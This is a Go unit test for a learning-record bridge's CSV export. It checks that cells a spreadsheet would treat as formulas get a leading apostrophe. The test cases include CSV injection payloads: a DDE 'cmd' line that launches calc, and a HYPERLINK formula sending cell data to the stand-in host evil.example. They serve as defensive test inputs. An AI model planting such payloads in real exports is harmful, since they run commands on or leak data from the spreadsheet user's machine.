package admin

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"

	"github.com/xapibridge/bridge/lrs"
)

// fakeExporter hands Export fixed statement bodies.
type fakeExporter struct{ bodies []string }

func (f fakeExporter) ScanStatements(_ context.Context, _ int64, _ lrs.Query, _ bool, fn func(lrs.StoredStatement) error) error {
	for i, b := range f.bodies {
		if err := fn(lrs.StoredStatement{PK: int64(i + 1), Body: []byte(b)}); err != nil {
			return err
		}
	}
	return nil
}

func (fakeExporter) DeleteStatementsUpTo(context.Context, int64, int64) (int64, error) { return 0, nil }

func exportCSV(t *testing.T, columns []string, bodies ...string) [][]string {
	t.Helper()
	a := &Admin{Exporter: fakeExporter{bodies}}
	var buf bytes.Buffer
	if _, err := a.Export(context.Background(), 1, lrs.Query{}, FormatCSV, columns, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("reading the CSV back: %v\n%s", err, buf.String())
	}
	return recs
}

// Cells a spreadsheet would run as formulas get a leading ' (OWASP CSV
// injection); numbers, plain negative ones included, are left alone.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`+HYPERLINK("http://evil.example/?x="&A1,"click")`, `'+HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{`-2+3`, `'-2+3`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"＝1+1", "'＝1+1"}, // full-width equals: Excel in some locales takes it for =
		{`-`, `'-`},
		{`-1.5`, `-1.5`},   // a string that is a plain number: a spreadsheet reads a number, runs nothing
		{`-1e-7`, `-1e-7`}, // so is this
		{`- 1`, `'- 1`},
		{`+1`, `'+1`}, // not a JSON number, and =+1 to a spreadsheet
		{`-01`, `'-01`},
		{`-1.`, `'-1.`},
		{`-Infinity`, `'-Infinity`},
		{`-1e+5`, `-1e+5`},
		{`0`, `0`},
		{`@`, `'@`},
		{`Ann`, `Ann`},
		{` =1+1`, ` =1+1`}, // a leading space makes it text already
	}
	for _, c := range cases {
		name, _ := jsonString(c.in)
		recs := exportCSV(t, []string{"actor.name"}, `{"actor":{"name":`+name+`}}`)
		if len(recs) != 2 || len(recs[1]) != 1 {
			t.Fatalf("%q: records %q", c.in, recs)
		}
		if got := recs[1][0]; got != c.want {
			t.Errorf("actor.name %q exported as %q, want %q", c.in, got, c.want)
		}
	}
}

func TestExportCSVKeepsNumbers(t *testing.T) {
	recs := exportCSV(t, []string{"result.score.raw", "result.score.scaled", "result.score.min", "result.response", "result.extensions"},
		`{"result":{"score":{"raw":-1.5,"scaled":-0.25,"min":-1e3},"response":"-3","extensions":{"http://x/e":"=1+1"}}}`)
	want := []string{"-1.5", "-0.25", "-1e3", "-3", `{"http://x/e":"=1+1"}`}
	for i, w := range want {
		if recs[1][i] != w {
			t.Errorf("column %s = %q, want %q", recs[0][i], recs[1][i], w)
		}
	}
}

// Column names are cells too (they are dotted paths, which may start with -).
func TestExportCSVNeutralisesHeader(t *testing.T) {
	recs := exportCSV(t, []string{"-x", "id"}, `{"id":"a"}`)
	if recs[0][0] != "'-x" || recs[0][1] != "id" {
		t.Errorf("header %q", recs[0])
	}
}

func jsonString(s string) (string, error) {
	var b bytes.Buffer
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r == '\t':
			b.WriteString(`\t`)
		case r == '\r':
			b.WriteString(`\r`)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String(), nil
}
